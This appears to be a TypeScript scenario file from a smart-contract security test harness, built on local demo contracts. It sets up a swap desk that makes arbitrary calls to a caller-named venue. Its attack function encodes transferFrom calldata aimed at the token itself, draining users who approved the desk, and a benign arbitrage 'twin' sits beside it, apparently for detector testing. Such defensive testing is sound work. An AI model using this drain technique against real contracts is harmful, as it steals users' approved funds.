import { encodeFunctionData, type Hex, maxUint256, parseUnits } from 'viem'
import { readArtifact } from '../../artifact.ts'
import type { Bound } from '../../send.ts'
import { dollars } from '../acmeVault.ts'
import { coins } from '../oracle/keptMarket.ts'
import type { Scenario } from '../scenario.ts'

export const allowedDesk: Scenario = {
  name: 'desk-that-takes-for-a-thief',
  theme: 'value',
  attack:
    'A desk trades wherever its caller says: a thief names the token as the venue, and has it take what users let it take.',
  twin: 'A bot buys coins in one pair and sells them in another through the desk, and earns as much as the thief with each theft.',

  async build({ deploy, call, accounts, mine, skip }) {
    const [deployer, ana, ben, eve, keeper, trader] = accounts as [Hex, Hex, Hex, Hex, Hex, Hex]
    const thief = accounts[20]!
    const dollar = await deploy(readArtifact('DemoDollar'), { args: [deployer] })
    const coin = await deploy(readArtifact('AcmeToken'), { args: [deployer, coins('10000000')] })
    const price = (amount: string) => parseUnits(amount, 8)
    const feed = await deploy(readArtifact('KeptFeed'), {
      args: [keeper, 'ACME / USD', price('0.01'), price('100000')],
    })
    const post = (amount: string) => call(feed, 'transmit', [price(amount)], { from: keeper })
    await post('10')
    const pairOf = async (dollarsIn: string, coinsIn: string) => {
      const pair = await deploy(readArtifact('AcmePair'), { args: [coin.address, dollar.address] })
      await call(dollar, 'mint', [deployer, dollars(dollarsIn)])
      await call(dollar, 'approve', [pair.address, maxUint256])
      await call(coin, 'approve', [pair.address, maxUint256])
      await call(pair, 'addLiquidity', [coins(coinsIn), dollars(dollarsIn)])
      return pair
    }
    const cheap = await pairOf('8000000', '1000000')
    const dear = await pairOf('14000000', '1000000')
    const desk = await deploy(readArtifact('SwapDesk'), { args: [coin.address, dollar.address, feed.address] })
    for (const user of [ana, ben, eve]) {
      await call(coin, 'transfer', [user, coins('30000')])
      await call(coin, 'approve', [desk.address, maxUint256], { from: user })
    }
    const trade = (pair: Bound, amount: string, from: Hex) => {
      const data = encodeFunctionData({
        abi: pair.abi,
        functionName: 'swap',
        args: [coin.address, coins(amount), 1n, desk.address],
      })
      return call(desk, 'trade', [coin.address, coins(amount), 1n, pair.address, data], { from })
    }
    return {
      protect: [desk.address],
      victims: [desk.address],
      async ordinary() {
        for (const [index, user] of [ana, ben, eve, ana].entries()) {
          await skip(3_000)
          await post(`10.0${index}`)
          await trade(cheap, '400', user)
          await mine(3)
        }
      },
      async attack() {
        for (const user of [ana, ben, eve]) {
          const data = encodeFunctionData({
            abi: coin.abi,
            functionName: 'transferFrom',
            args: [user, thief, coins('29000')],
          })
          await call(desk, 'trade', [coin.address, 0n, 0n, coin.address, data], { from: thief })
          await mine(4)
        }
      },
      async twin() {
        const bot = await deploy(readArtifact('GapTrader'), {
          args: [desk.address, cheap.address, dear.address],
          from: trader,
        })
        await call(dollar, 'mint', [trader, dollars('900000')])
        await call(dollar, 'approve', [bot.address, maxUint256], { from: trader })
        await call(bot, 'run', [dollars('900000'), coins('69000')], { from: trader })
      },
    }
  },
}
